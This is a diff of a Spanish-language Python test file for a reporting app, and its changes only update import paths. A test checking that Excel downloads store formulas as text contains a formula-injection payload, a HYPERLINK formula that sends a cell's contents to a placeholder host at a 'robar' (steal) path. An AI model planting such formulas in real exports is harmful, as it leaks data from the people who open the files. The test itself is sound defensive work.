@@ -14,7 +14,7 @@ from datos import seguimiento
 from datos.importar import importar_archivo
 from datos.permisos import PermisoDenegado
 from informes.exportar import csv_seguro, excel_seguro
-from paginas.bandejas import para_descargar
+from paginas.bandejas.modelo import para_descargar
 from tests.ayudas import ADMIN, ATENCION, JEFATURA, RETENCION, SISTEMA, insertar_orden
 
 HOY = dt.date(2026, 11, 20)
@@ -250,7 +250,7 @@ def test_la_descarga_excel_guarda_formulas_como_texto(con):
     formula = '=HYPERLINK("http://ejemplo.invalid/robar?d="&A1,"clic")'
     ot = insertar_orden(con, estado="ANULADO", causal="+1-1", fecha_anulacion=dt.datetime(2026, 10, 7, 15, 30))
     seguimiento.agregar(con, ATENCION, ot, "medida_correctiva", formula, hoy=HOY)
-    from paginas.bandejas import COLUMNAS_ANULADOS as COLUMNAS
+    from paginas.bandejas.modelo import COLUMNAS_ANULADOS as COLUMNAS
     df = para_descargar(consultar(con, "bandeja_anulados", **TODO, sin_medida=False, causal=None), COLUMNAS, True)
 
     hoja = openpyxl.load_workbook(io.BytesIO(excel_seguro({"Anulados": df})))["Anulados"]
